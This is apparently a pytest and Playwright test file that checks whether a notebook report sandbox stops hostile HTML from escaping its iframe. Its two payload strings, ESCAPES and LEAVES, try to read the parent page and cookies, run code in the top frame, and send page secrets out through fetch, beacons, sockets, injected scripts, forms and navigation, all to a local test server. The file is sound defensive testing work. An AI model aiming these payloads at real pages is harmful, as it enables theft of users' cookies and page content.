"""A report that does all it can to get out of its frame, in a real Chromium."""

import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import nbconvert
import nbformat
import pytest
from playwright.sync_api import Page

from flyte_notebook.sandbox.sandbox_frame import sandboxed

pytestmark = pytest.mark.real

ESCAPES = """<!doctype html><html><head><title>report</title>
<link rel="stylesheet" href="ORIGIN/leak/stylesheet"><link rel="preload" as="image" href="ORIGIN/leak/preload">
</head><body><p id="text">It's a "report" &amp; more</p>
<img src="ORIGIN/leak/image"><iframe src="ORIGIN/leak/frame"></iframe>
<form id="form" action="ORIGIN/leak/form"></form><a id="link" href="ORIGIN/leak/link" target="_blank">link</a>
<script>
const reached = [];
const attempt = (name, action) => { try { action(); reached.push(name) } catch { } };
attempt("read the page", () => parent.document.body.innerHTML);
attempt("change the page", () => { top.document.title = "taken" });
attempt("read the cookie", () => document.cookie);
attempt("read the page's cookie", () => top.document.cookie);
attempt("use the storage", () => localStorage.length);
attempt("run in the page", () => top.eval("1"));
const quietly = (action) => { try { action() } catch { } };
quietly(() => fetch("ORIGIN/leak/fetch").catch(() => {}));
quietly(() => navigator.sendBeacon("ORIGIN/leak/beacon"));
quietly(() => new WebSocket("ORIGIN/leak/socket".replace("http", "ws")));
quietly(() => new EventSource("ORIGIN/leak/events"));
quietly(() => { const script = document.createElement("script"); script.src = "ORIGIN/leak/script";
                document.body.append(script) });
quietly(() => document.getElementById("link").click());
quietly(() => window.open("ORIGIN/leak/window"));
quietly(() => alert("leak"));
addEventListener("load", () => {
  attempt("navigate the page", () => { top.location = "ORIGIN/leak/top" });
  quietly(() => document.getElementById("form").submit());
  document.body.dataset.reached = JSON.stringify(reached);
  document.body.dataset.done = "yes";
});
</script></body></html>"""

LEAVES = """<!doctype html><p>secret</p>
<script>location.href = "ORIGIN/leak/self?" + document.querySelector("p").innerText</script>"""


class Site:
    """A web server on this machine that serves one page, and remembers what was asked of it."""

    def __init__(self) -> None:
        self.page = ""
        self.asked: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                body = site.page.encode() if self.path == "/" else b"leak"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Set-Cookie", "token=secret")
                self.end_headers()
                with contextlib.suppress(ConnectionError):  # a page that was left waits for no answer
                    self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Keep the test's output clean."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    @property
    def leaks(self) -> list[str]:
        return [path for path in self.asked if path.startswith("/leak")]


@pytest.fixture
def site() -> Iterator[Site]:
    site = Site()
    yield site
    site.close()


def as_notebook_page(html: str) -> str:
    """A cell's HTML output in a notebook, converted as `jupyter nbconvert` does."""
    output = nbformat.v4.new_output("display_data", {"text/html": html, "text/plain": "report"})
    cell = nbformat.v4.new_code_cell("%flyte_run main", outputs=[output])
    notebook = nbformat.v4.new_notebook(cells=[cell])
    body, _ = nbconvert.HTMLExporter(template_name="basic").from_notebook_node(notebook)
    return f"<!doctype html><title>notebook</title><meta charset=utf-8>{body}"


def test_a_report_gets_nowhere(site: Site, page: Page) -> None:
    site.page = as_notebook_page(sandboxed(ESCAPES.replace("ORIGIN", site.origin), "Report"))
    opened: list[Page] = []
    page.context.on("page", lambda new: opened.append(new))
    page.goto(site.origin)
    report = page.frame_locator("iframe").frame_locator("iframe")
    report.locator("body[data-done]").wait_for(timeout=120_000)
    assert report.locator("body").get_attribute("data-reached") == "[]"
    assert report.locator("#text").inner_text() == 'It\'s a "report" & more'
    page.wait_for_load_state("networkidle")
    assert site.leaks == []
    assert opened == []
    assert page.title() == "notebook"
    assert page.url.rstrip("/") == site.origin


def test_a_report_cannot_take_its_frame_elsewhere(site: Site, page: Page) -> None:
    site.page = as_notebook_page(sandboxed(LEAVES.replace("ORIGIN", site.origin), "Report"))
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text))
    page.goto(site.origin)
    while not any("frame-src 'none'" in text for text in blocked):
        page.wait_for_event("console", timeout=120_000)
    assert site.leaks == []


@pytest.mark.parametrize(
    ("report", "reached"),
    [(ESCAPES, {"stylesheet", "preload", "image", "frame", "script", "fetch", "form"}), (LEAVES, {"self"})],
    ids=["escapes", "leaves"],
)
def test_the_same_report_without_its_frame_gets_out(site: Site, page: Page, report: str, reached: set[str]) -> None:
    """The attempts are real ones: on a page of its own the report reaches this server."""
    site.page = report.replace("ORIGIN", site.origin)
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(site.origin)
    page.wait_for_url("**/leak/*")
    assert {path.split("?")[0].removeprefix("/leak/") for path in site.leaks} >= reached
